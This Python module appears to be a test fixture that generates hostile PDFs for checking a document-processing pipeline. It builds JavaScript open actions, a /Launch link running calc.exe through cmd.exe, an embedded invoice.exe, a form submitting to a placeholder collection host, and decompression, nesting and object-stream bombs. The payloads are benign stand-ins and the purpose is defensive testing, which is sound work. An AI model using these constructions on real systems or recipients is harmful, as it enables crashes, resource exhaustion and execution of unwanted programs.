"""Hostile exhibit PDFs, written byte by byte: active content (JavaScript, /Launch, embedded
files, form fields) and resource attacks (deep nesting, huge object streams, decompression
bombs). Each is a small file a counterparty or a careless platform could hand over."""

from __future__ import annotations

import zlib
from pathlib import Path

PAGE_TEXT = b"BT /F1 18 Tf 72 720 Td (Hostile exhibit page) Tj ET"
FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


def _stream(data: bytes, extra: bytes = b"", compress: bool = False) -> bytes:
    if compress:
        data = zlib.compress(data, 9)
        extra += b" /Filter /FlateDecode"
    return b"<< /Length %d%s >>\nstream\n%s\nendstream" % (len(data), extra, data)


def write_pdf(path: Path, objects: dict[int, bytes], root: int = 1) -> Path:
    """A PDF with these numbered objects and a classic cross-reference table."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets: dict[int, int] = {}
    for number in sorted(objects):
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, objects[number])
    size = max(objects) + 1
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        if number in offsets:
            out += b"%010d 00000 n \n" % offsets[number]
        else:
            out += b"0000000000 65535 f \n"
    out += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, root, xref)
    path.write_bytes(bytes(out))
    return path


def _one_page(
    page_extra: bytes = b"",
    catalog_extra: bytes = b"",
    more: dict[int, bytes] | None = None,
    content: bytes = PAGE_TEXT,
) -> dict[int, bytes]:
    """Catalog 1, pages 2, page 3, content 4, font 5; extra objects from 10 on."""
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalog_extra,
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> %s >>" % page_extra,
        4: _stream(content),
        5: FONT,
    }
    objects.update(more or {})
    return objects


def javascript_everywhere(path: Path) -> Path:
    """JavaScript on opening the document and the page, in the name tree, and on a link."""
    js = b"<< /S /JavaScript /JS (app.alert\\('pwned'\\);) >>"
    return write_pdf(
        path,
        _one_page(
            page_extra=b"/AA << /O 10 0 R /C 10 0 R >> /Annots [11 0 R]",
            catalog_extra=b"/OpenAction 10 0 R /Names << /JavaScript << /Names [(x) 10 0 R] >> >>",
            more={
                10: js,
                11: b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 740] /Border [0 0 0] "
                b"/A << /S /JavaScript /JS 12 0 R >> >>",
                12: _stream(b"this.exportDataObject({cName: 'x', nLaunch: 2});"),
            },
        ),
    )


def launch_action(path: Path) -> Path:
    """A link that runs a program, a web link, and a GoTo chained to JavaScript by /Next."""
    return write_pdf(
        path,
        _one_page(
            page_extra=b"/Annots [10 0 R 11 0 R 12 0 R]",
            more={
                10: b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 740] "
                b"/A << /S /Launch /F (C:\\\\Windows\\\\System32\\\\calc.exe) "
                b"/Win << /F (cmd.exe) /P (/c calc) >> >> >>",
                11: b"<< /Type /Annot /Subtype /Link /Rect [72 600 300 640] "
                b"/A << /S /URI /URI (https://tracker.example/ping) >> >>",
                12: b"<< /Type /Annot /Subtype /Link /Rect [72 500 300 540] "
                b"/A << /S /GoTo /D [3 0 R /Fit] "
                b"/Next << /S /JavaScript /JS (app.alert(1)) >> >> >>",
            },
        ),
    )


def embedded_exe(path: Path) -> Path:
    """An .exe in the document's embedded files and as a file attachment on the page."""
    exe = b"MZ\x90\x00" + bytes(200) + b"This program cannot be run in DOS mode."
    spec = b"<< /Type /Filespec /F (invoice.exe) /UF (invoice.exe) /EF << /F 10 0 R >> >>"
    return write_pdf(
        path,
        _one_page(
            page_extra=b"/Annots [12 0 R] /AF [11 0 R]",
            catalog_extra=b"/Names << /EmbeddedFiles << /Names [(invoice.exe) 11 0 R] >> >>",
            more={
                10: _stream(exe, b" /Type /EmbeddedFile /Subtype /application#2Fx-msdownload"),
                11: spec,
                12: b"<< /Type /Annot /Subtype /FileAttachment /Rect [72 600 90 620] "
                b"/FS 11 0 R /Name /PushPin >>",
            },
        ),
    )


def form_fields(path: Path) -> Path:
    """A filled text field (its value drawn by its appearance), with a keystroke script, and a
    submit button that sends the form to a web address."""
    appearance = b"/Tx BMC BT /F1 12 Tf 2 6 Td (ACME Trading Co.) Tj ET EMC"
    return write_pdf(
        path,
        _one_page(
            page_extra=b"/Annots [10 0 R 12 0 R]",
            catalog_extra=b"/AcroForm << /Fields [10 0 R 12 0 R] /NeedAppearances false "
            b"/DR << /Font << /F1 5 0 R >> >> >>",
            more={
                10: b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (seller) /V (ACME Trading Co.) "
                b"/Rect [72 600 372 624] /F 4 /P 3 0 R /AP << /N 11 0 R >> "
                b"/AA << /K << /S /JavaScript /JS (event.rc = true;) >> >> >>",
                11: _stream(
                    appearance,
                    b" /Type /XObject /Subtype /Form /BBox [0 0 300 24] "
                    b"/Resources << /Font << /F1 5 0 R >> >>",
                ),
                12: b"<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (send) "
                b"/Rect [72 540 172 570] /F 4 /P 3 0 R "
                b"/A << /S /SubmitForm /F << /FS /URL /F (https://collect.example/form) >> >> >>",
            },
        ),
    )


def hidden_form_field(path: Path) -> Path:
    """A field marked hidden: flattening must not print it."""
    return write_pdf(
        path,
        _one_page(
            page_extra=b"/Annots [10 0 R]",
            more={
                10: b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (secret) /F 2 "
                b"/Rect [72 600 372 624] /AP << /N 11 0 R >> >>",
                11: _stream(
                    b"BT /F1 12 Tf 2 6 Td (HIDDEN VALUE) Tj ET",
                    b" /Type /XObject /Subtype /Form /BBox [0 0 300 24] "
                    b"/Resources << /Font << /F1 5 0 R >> >>",
                ),
            },
        ),
    )


def nested_forms(path: Path, depth: int = 5000) -> Path:
    """A page whose form XObject draws a form XObject that draws … `depth` levels deep."""
    more: dict[int, bytes] = {}
    first = 10
    for level in range(depth):
        number = first + level
        if level == depth - 1:
            more[number] = _stream(
                PAGE_TEXT,
                b" /Type /XObject /Subtype /Form /BBox [0 0 595 842] "
                b"/Resources << /Font << /F1 5 0 R >> >>",
            )
        else:
            more[number] = _stream(
                b"/X Do",
                b" /Type /XObject /Subtype /Form /BBox [0 0 595 842] "
                b"/Resources << /XObject << /X %d 0 R >> >>" % (number + 1),
            )
    objects = _one_page(content=b"/X Do", more=more)
    objects[3] = (
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /XObject << /X %d 0 R >> >> >>" % first
    )
    return write_pdf(path, objects)


def nested_arrays(path: Path, depth: int = 50_000) -> Path:
    """A page carrying an array nested `depth` deep (a parser's recursion)."""
    deep = b"[" * depth + b"]" * depth
    return write_pdf(path, _one_page(page_extra=b"/Junk " + deep))


def huge_object_stream(path: Path, count: int = 1_000_000, pages: int = 3) -> Path:
    """`count` objects packed in one object stream (a cross-reference stream lists them); each
    page's font is the last of them, so reading a page parses them all."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets: dict[int, int] = {}

    def add(number: int, body: bytes) -> None:
        offsets[number] = len(out)
        out.extend(b"%d 0 obj\n%s\nendobj\n" % (number, body))

    packed_first = 100
    last = packed_first + count - 1
    kids = b" ".join(b"%d 0 R" % (10 + i) for i in range(pages))
    add(1, b"<< /Type /Catalog /Pages 2 0 R >>")
    add(2, b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, pages))
    add(4, _stream(PAGE_TEXT))
    for i in range(pages):
        add(
            10 + i,
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
            b"/Resources << /Font << /F1 %d 0 R >> >> >>" % last,
        )
    header = bytearray()
    body = bytearray()
    for i in range(count - 1):
        header += b"%d %d " % (packed_first + i, len(body))
        body += b"0 "
    header += b"%d %d " % (last, len(body))
    body += FONT
    data = bytes(header) + bytes(body)
    stm = 50
    add(
        stm,
        _stream(data, b" /Type /ObjStm /N %d /First %d" % (count, len(header)), compress=True),
    )
    # cross-reference stream: type, field 2 (4 bytes), field 3 (3 bytes)
    xref_number = last + 1
    size = xref_number + 1
    rows = bytearray()
    for number in range(size):
        if number in offsets:
            rows += b"\x01" + offsets[number].to_bytes(4, "big") + b"\x00\x00\x00"
        elif packed_first <= number <= last:
            rows += b"\x02" + stm.to_bytes(4, "big") + (number - packed_first).to_bytes(3, "big")
        elif number == xref_number:
            rows += b"\x01" + len(out).to_bytes(4, "big") + b"\x00\x00\x00"
        else:
            rows += b"\x00" + bytes(7)
    xref_at = len(out)
    add(
        xref_number,
        _stream(
            bytes(rows),
            b" /Type /XRef /Size %d /W [1 4 3] /Root 1 0 R" % size,
            compress=True,
        ),
    )
    out += b"startxref\n%d\n%%%%EOF\n" % xref_at
    path.write_bytes(bytes(out))
    return path


def content_bomb(path: Path, megabytes: int = 1024) -> Path:
    """A page whose content stream is a few MB on disk and `megabytes` MB decompressed."""
    compressor = zlib.compressobj(9)
    chunk = b" " * (1 << 20)
    parts = [compressor.compress(PAGE_TEXT + b"\n")]
    parts += [compressor.compress(chunk) for _ in range(megabytes)]
    parts.append(compressor.flush())
    data = b"".join(parts)
    objects = _one_page()
    objects[4] = b"<< /Length %d /Filter /FlateDecode >>\nstream\n%s\nendstream" % (
        len(data),
        data,
    )
    return write_pdf(path, objects)


def image_bomb(path: Path, side: int = 30_000) -> Path:
    """A page showing a side×side RGB image (2.7 GB decoded at 30,000) that is a few MB on disk."""
    compressor = zlib.compressobj(9)
    row = bytes(side * 3)
    parts = [compressor.compress(row) for _ in range(side)]
    parts.append(compressor.flush())
    data = b"".join(parts)
    image = (
        b"<< /Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceRGB "
        b"/BitsPerComponent 8 /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream"
        % (side, side, len(data), data)
    )
    objects = _one_page(content=b"q 595 0 0 842 0 0 cm /Im0 Do Q")
    objects[3] = (
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /XObject << /Im0 10 0 R >> >> >>"
    )
    objects[10] = image
    return write_pdf(path, objects)
